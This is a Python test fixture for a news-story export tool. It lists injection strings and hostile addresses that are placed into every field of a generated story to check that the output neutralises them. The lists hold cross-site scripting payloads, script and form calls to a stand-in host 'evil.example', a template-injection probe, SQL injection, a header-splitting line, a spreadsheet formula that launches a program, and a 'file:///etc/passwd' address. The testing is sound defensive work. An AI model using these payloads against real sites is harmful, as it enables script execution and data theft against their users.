"""Words as an enemy would have them on a page: what each tries is to become more than words."""

from tests.cli.conftest import Cast, Told, build_story

from onrecord.exports.identifiers import folded
from onrecord.values.page import Kind
from onrecord.values.source import SourceKind
from onrecord.values.stance import Stance
from onrecord.values.story import Story

SHAPES = (
    # An element with a script.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\t>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    # An element that runs something when it loads, fails or is met.
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x />",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    # The end of what holds it, and then a script.
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</summary></details><script>alert(1)</script>",
    "</a></p></main><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='//evil.example'?>",
    # One more attribute for what holds it.
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    '" autofocus onfocus="alert(1)',
    "x onclick=alert(1) y=",
    '" style="position:fixed;inset:0',
    # Somewhere else to go, or to send to.
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>Accept</button></form>",
    "<button formaction=//evil.example>Accept</button>",
    "<img src=//evil.example/pixel>",
    # Another look.
    "<style>*{display:none}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    "<plaintext>",
    "<xmp>",
    "<dialog open>You are logged out</dialog>",
    # Another language: of templates, entities, encodings, headers, databases, terminals.
    "{{ 7*7 }}{% raw %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "${alert(1)}`${1}`",
    "#{7*7}<%= 7*7 %>",
    "&lt;script&gt;&#60;script&#62;&amp;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "\uff1cscript\uff1ealert(1)",
    "line\r\nSet-Cookie: x=1",
    "'; drop table stories; --",
    '" OR "1"="1',
    "__proto__",
    "constructor",
    "\x00\x08\x1b[2J \u202erev\u202c \u2066iso \ufffe",
    "a\u0300\u0301\u0302\u0303\u0304\u0305" * 12,
    "\u202e\u2067\u2068gnp.exe",
    "W" * 400,
    "=cmd|'/c calc'!A0",
)
"""Shapes of injection, each tried as headline, deck, outlet, byline, date, credit, source, cue, content and note."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://news.example/"onclick="alert(1)',
    "https://news.example/<script>",
    "mailto:a@b.example",
)
"""Addresses that a page may say it comes from."""


def hostile_story(words: str, *, address: str = "story.html") -> Story:
    """A story that has the words wherever a story can have words."""
    written = words.replace("{", "\\{").replace("}", "\\}")
    return build_story(
        [
            (Kind.ARTICLE, f"{{s1:{written}}} {{c1:{written} said}}: {{q1:“{written}”}}."),
            (Kind.ARTICLE, f"{{m1:{written} {{k1:said}} so.}}"),
            (Kind.TEASER, written),
        ],
        address=address,
        headline=words,
        deck=words,
        outlet=words,
        byline=(words,),
        dateline=words,
        published=words,
        updated=f"{words} later",
        credit=words,
        cast=(
            Cast(words, words=words, keys=(folded(words) or "x",)),
            Cast(None, SourceKind.UNNAMED, words, words, because=words),
        ),
        told={1: Told(0, stance=Stance.DENIES, denied=(words,), hedges=(words,), through=(words,))},
    )
